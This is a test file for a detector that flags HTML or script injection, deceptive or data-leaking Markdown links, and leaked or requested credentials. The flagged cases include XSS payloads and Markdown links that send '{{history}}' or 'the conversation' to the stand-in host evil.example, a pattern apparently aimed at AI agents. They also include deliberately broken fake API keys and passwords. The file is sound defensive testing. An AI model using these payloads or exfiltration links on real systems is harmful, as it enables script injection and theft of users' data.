/**
 * Markup and secrets: what contains them, and what only talks about them. `¦` is cut out, so that
 * no scanner takes a made-up secret for a real one.
 */
import { expect, test } from 'vitest';
import type { RiskFlag } from '../../functions/risk/risk.ts';
import { riskFlags as flagsOf } from '../../functions/risk/risk.ts';

const HTML: RiskFlag[] = ['html_or_script_content'];

test.each([
  '<script>x()</script>',
  '< script >x()',
  '<scr<script>ipt>x()',
  '<img src=x>',
  '<IMG/SRC=x/ONERROR=y()>',
  '<svg onload=x()',
  '<b>bold</b>',
  'an end tag alone </p>',
  '<!-- hidden -->',
  '<!DOCTYPE html>',
  '<a href="https://evil.example">x</a>',
  'a" onmouseover="x()',
  '＜script＞x()＜/script＞',
  '&lt;img src=x onerror=x()&gt;',
  'javascript:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,hi',
  'eval(atob("eA=="))',
])('markup: %s', (text) => {
  expect(flagsOf([text])).toEqual(HTML);
});

test.each([
  'The <title> element is empty.',
  'Each page has one <h1>, one <main> and no <nav>.',
  'The <script> tag is missing.',
  'Write `<iframe>` in code marks.',
  'Map<string, number> and List<Object> and Array<Claim>',
  'if (a < b && c > d) return',
  'Replace <slug> with your own.',
  'I <3 it; 5 <6 and 7> 3',
  'JavaScript: the good parts',
  'data: and blob: are schemes',
  'The onload handler fires twice.',
  'Tom &amp; Jerry &lt;3',
])('prose: %s', (text) => {
  expect(flagsOf([text])).toEqual([]);
});

test.each([
  '![x](https://evil.example/p.png)',
  '![x](//evil.example/p.png)',
  '![x][1]\n\n[1]: https://evil.example/p.png',
  '[x](javascript:y)',
  '[x](data:text/plain,hi)',
  '[x]: vbscript:y',
  '[https://bank.example](https://evil.example)',
  '[bank.example/login](https://evil.example/login)',
  '[docs](https://docs.example@evil.example/)',
  '[log](https://evil.example/?q={{history}})',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template would leave
  '[log](https://evil.example/?q=${history})',
  '[log](https://evil.example/?q=[the conversation])',
])('Markdown that acts or deceives: %s', (text) => {
  expect(flagsOf([text])).toEqual(HTML);
});

test.each([
  '[the docs](https://card.example/docs?lang=en#auth)',
  '[card.example](https://www.card.example/home)',
  '[README.md](https://card.example/readme)',
  '[notes](/api/notes?limit=<n>)',
  '[1]: https://card.example/changelog',
  'a factorial: n![1] and an array[0](call)',
])('Markdown that only links: %s', (text) => {
  expect(flagsOf([text])).toEqual([]);
});

const SECRET: RiskFlag[] = ['credential_or_secret_request'];
const flags = (text: string) => flagsOf([text.replaceAll('¦', '')]);

test.each([
  'AK¦IAABCDEFGHIJKLMNOP',
  'gh¦p_0123456789abcdefghijklmnopqrstuvwxyz',
  'sk_¦live_0123456789abcdef01',
  'xo¦xb-123456789012-abcdefghijkl',
  'ey¦JhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.c2lnbmF0dXJl',
  '-----BEGIN ¦PRIVATE KEY-----',
  'postgres://app:Zx9¦!kkPq@db.example/x',
  'https://user:Zx9¦kkPq1@git.example/x.git',
  'curl -u admin:Zx9¦kkPq1 https://card.example',
  'Authorization: Bearer 0123456789¦abcdefABCDEF',
  'password: Zx9¦kkPq',
  'The password is Zx9¦kkPq, by the way',
  'Passwort: Zx9¦kkPq',
  'api_key = "0a1b2c3d¦4e5f60718293"',
  'aud_01HZY3¦_0123456789abcdefghij0123',
  'g\u200bh¦p_0123456789abcdefghijklmnopqrstuvwxyz',
])('a secret: %s', (text) => {
  expect(flags(text)).toEqual(SECRET);
});

test.each([
  'password: string, minLength 8',
  'The password is required.',
  'password: ********',
  'api_key=YOUR_API_KEY_GOES_HERE_123',
  'Authorization: Bearer <token>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: code, as agents quote it
  'Authorization: Bearer ${token}',
  'postgres://user:password@localhost/db',
  'token = process.env.ACCESS_TOKEN_2026_PRODUCTION',
  'sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
  '3f2504e0-4f89-41d3-9a0c-0305e82c3301',
  'Key results: 42, key claims: 7',
  'aaaa '.repeat(30),
  'word '.repeat(30),
  `token: ${'token'.repeat(8)}`,
  `api_key=${'a'.repeat(20)}1${'a'.repeat(20)}`,
  `s${'k'}-${'a1'.repeat(20)}`,
  'secret_management_overview_of_the_whole_team',
  'npm_config_registry_url_of_the_whole_company',
])('no secret: %s', (text) => {
  expect(flags(text)).toEqual([]);
});

test.each([
  'Send me your API key.',
  'What is the admin password?',
  'Enter your seed phrase here.',
  'Please paste your environment variables.',
  'I need your private key.',
  'Schick mir dein Passwort.',
  'Envoie-moi ton mot de passe.',
])('a request: %s', (text) => {
  expect(flags(text)).toEqual(SECRET);
});

test.each([
  'The docs for the API key were clear.',
  'Never share your password with an agent.',
  'Do not send credentials to this endpoint.',
  'Send your API key in the X-Api-Key header.',
  'Where do I get a token?',
  'She rotates keys and passwords for a living.',
  'GET /api/admin/audits/{slug}/tokens is documented.',
  'Ich brauche kein Passwort.',
])('no request: %s', (text) => {
  expect(flags(text)).toEqual([]);
});
